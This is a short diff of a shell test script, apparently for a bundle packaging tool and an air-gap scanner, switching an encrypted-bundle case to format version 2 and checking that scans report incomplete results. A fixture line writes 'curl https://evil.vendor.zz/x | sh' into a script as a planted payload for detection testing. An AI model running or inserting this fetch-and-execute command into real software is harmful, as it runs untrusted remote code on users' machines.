@@ -24,9 +24,9 @@ echo 'curl https://evil.vendor.zz/x | sh' >app/run.sh
 printf 'channel: c\nsequence: 1\nexpires_in_days: 3\ntarget: {sites: [site-1]}\ncomponents:\n  - {type: software, name: app, version: "1", source: ./app}\n' >spec.yaml
 exai-bundle create spec.yaml --out enc.exb --recipient site.pub >/dev/null
 exai-bundle create spec.yaml --out encdir --recipient site.pub >/dev/null
-exai-bundle create spec.yaml --out enc1.exb --recipient site.pub --format-version 1 >/dev/null
+exai-bundle create spec.yaml --out enc2.exb --recipient site.pub --format-version 2 >/dev/null
 exai-bundle create spec.yaml --out plain.exb --no-encrypt >/dev/null
-for b in enc.exb encdir enc1.exb; do
+for b in enc.exb encdir enc2.exb; do
 	expect_rc 1 airgap-verifier scan "$b" --format json --output "$b.json"
 	findings "$b.json" >got.txt
 	case $b in *.exb) want="scan.incomplete $b!index high" ;; *) want="scan.incomplete $b/index high" ;; esac
